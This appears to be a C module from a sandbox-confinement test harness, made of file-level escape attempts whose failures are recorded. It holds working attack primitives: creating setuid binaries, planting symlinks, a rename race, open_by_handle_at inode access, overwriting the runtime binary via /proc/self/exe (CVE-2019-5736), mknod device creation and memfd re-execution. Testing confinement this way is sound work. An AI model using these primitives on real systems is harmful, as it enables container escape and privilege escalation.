/* Files: what is not granted, what is granted for reading only, what is planted. */
#include "attack.h"
#include <dirent.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/wait.h>

static void read_file(char **args)
{
	int fd = open(args[0], O_RDONLY);

	if (fd < 0)
		return tried("open");
	copy_out(fd);
}

static void write_file(char **args)
{
	int fd = open(args[0], O_WRONLY | O_NONBLOCK);

	if (fd < 0 || write(fd, args[1], strlen(args[1])) < 0)
		tried("write");
}

static void truncate_file(char **args)
{
	int fd;

	if (truncate(args[0], 0) == 0)
		return;
	tried("truncate");
	fd = open(args[0], O_RDONLY | O_TRUNC);
	if (fd < 0)
		tried("open with O_TRUNC");
}

/* What cannot be written there may be where it can: link it over. */
static void link_file(char **args)
{
	if (link(args[0], args[1]) < 0 && rename(args[0], args[1]) < 0)
		return tried("link");
	write_file(args + 1);
}

/* A program that is its owner's for whoever starts it, in every way to make one. */
static void set_id(char **args)
{
	char other[512];
	int fd;

	umask(0);
	snprintf(other, sizeof other, "%s.open", args[0]);
	fd = open(other, O_WRONLY | O_CREAT, 06755);
	if (fd < 0)
		tried("open");
	fd = open(args[0], O_WRONLY | O_CREAT, 0755);
	if (fd < 0 || write(fd, "#!/bin/sh\n", 10) < 0 || fchmod(fd, 06755) < 0)
		tried("fchmod");
	if (chmod(args[0], 06755) < 0)
		tried("chmod");
	if (syscall(452 /* fchmodat2 */, AT_FDCWD, args[0], 06755, 0) < 0)
		tried("fchmodat2");
	snprintf(other, sizeof other, "%s.dir", args[0]);
	if (mkdir(other, 02777) < 0)
		tried("mkdir");
}

static void plant(char **args)
{
	if (symlink(args[0], args[1]) < 0)
		tried("symlink");
}

/* Swaps two names for as long as it lives: what was checked is not what is used. */
static void swap(char **args)
{
	got("ready\n", 6);
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], 2 /* RENAME_EXCHANGE */) < 0)
			return tried("renameat2");
}

/* open_by_handle_at(2) asks for an inode, whatever the tree shows. */
static void by_handle(char **args)
{
	struct { struct file_handle head; unsigned char bytes[128]; } h = {{0}, {0}};
	int dir = open(args[0], O_RDONLY | O_DIRECTORY), fd;
	const char *hex = args[2];

	h.head.handle_type = (int)number(args[1]);
	for (; hex[0] != 0 && hex[1] != 0; hex += 2) {
		char one[3] = {hex[0], hex[1], 0};

		h.head.f_handle[h.head.handle_bytes++] = (unsigned char)strtoul(one, 0, 16);
	}
	fd = open_by_handle_at(dir, &h.head, O_RDONLY);
	if (fd < 0)
		return tried("open_by_handle_at");
	copy_out(fd);
}

/*
 * The program's own file, by the kernel's link to it; while it runs it cannot
 * be written, so another waits until it does not (CVE-2019-5736).
 */
static void own_program(char **args)
{
	char fd_path[64];
	int fd = open("/proc/self/exe", O_PATH);
	char *argv[] = {args[0], "overwrite", fd_path, args[1], 0};

	if (fd < 0)
		return tried("open /proc/self/exe");
	snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", fd);
	execv(args[0], argv);
	tried("execv");
}

static void overwrite(char **args)
{
	int fd = open(args[0], O_WRONLY);

	if (fd < 0 || write(fd, args[1], strlen(args[1])) < 0)
		tried("overwrite");
}

static void list(char **args)
{
	DIR *d = opendir(args[0]);
	struct dirent *e;

	if (d == 0)
		return tried("opendir");
	while ((e = readdir(d)) != 0) {
		got(e->d_name, strlen(e->d_name));
		got("\n", 1);
	}
}

static void keep_open(char **args)
{
	if (open(args[0], (int)number(args[1]) | O_NONBLOCK | O_NOCTTY) < 0)
		tried("open");
}

static void watch(char **args)
{
	if (inotify_add_watch(inotify_init1(0), args[0], IN_ALL_EVENTS) < 0)
		tried("inotify_add_watch");
}

/* Walks out of a directory that it was handed as a descriptor. */
static void walk(char **args)
{
	int fd = openat((int)number(args[0]), args[1], O_RDONLY);

	if (fd < 0)
		return tried("openat");
	copy_out(fd);
}

/* The same file once more, by the link to a descriptor, for writing. */
static void reopen(char **args)
{
	int fd = open(args[0], O_WRONLY);

	if (fd < 0 || write(fd, args[1], strlen(args[1])) < 0)
		tried("reopen");
}

static void replace_device(char **args)
{
	if (unlink(args[0]) < 0)
		tried("unlink");
	if (open(args[0], O_WRONLY | O_CREAT | O_EXCL, 0666) < 0)
		tried("open");
}

static void device(char **args)
{
	if (mknod(args[0], S_IFCHR | 0666, (dev_t)number(args[1])) < 0)
		tried("mknod");
}

/* Runs a copy of itself from where it can write, and from memory. */
static void run_copy(char **args)
{
	char buf[65536], fd_path[64];
	int in = open("/proc/self/exe", O_RDONLY), out;
	char *argv[] = {args[0], "token", args[1], 0};
	ssize_t n;

	if (in < 0)
		in = open(args[2], O_RDONLY);
	out = strcmp(args[0], "memfd") == 0 ? (int)syscall(SYS_memfd_create, "x", 0) : open(args[0], O_WRONLY | O_CREAT, 0755);
	if (in < 0 || out < 0)
		return tried("open");
	while ((n = read(in, buf, sizeof buf)) > 0)
		if (write(out, buf, (size_t)n) != n)
			return tried("write");
	if (strcmp(args[0], "memfd") == 0) {
		snprintf(fd_path, sizeof fd_path, "/proc/self/fd/%d", out);
		argv[0] = fd_path;
	} else
		close(out);
	execv(argv[0], argv);
	tried("execv");
}

static void say_token(char **args)
{
	got(args[0], strlen(args[0]));
}

const struct attack files[] = {
	{"read", read_file, 1},
	{"write", write_file, 2},
	{"truncate", truncate_file, 1},
	{"link", link_file, 3},
	{"set-id", set_id, 1},
	{"plant", plant, 2},
	{"swap", swap, 2},
	{"by-handle", by_handle, 3},
	{"own-program", own_program, 2},
	{"overwrite", overwrite, 2},
	{"list", list, 1},
	{"keep-open", keep_open, 2},
	{"watch", watch, 1},
	{"walk", walk, 2},
	{"reopen", reopen, 2},
	{"replace-device", replace_device, 1},
	{"device", device, 2},
	{"run-copy", run_copy, 3},
	{"token", say_token, 1},
	{0},
};
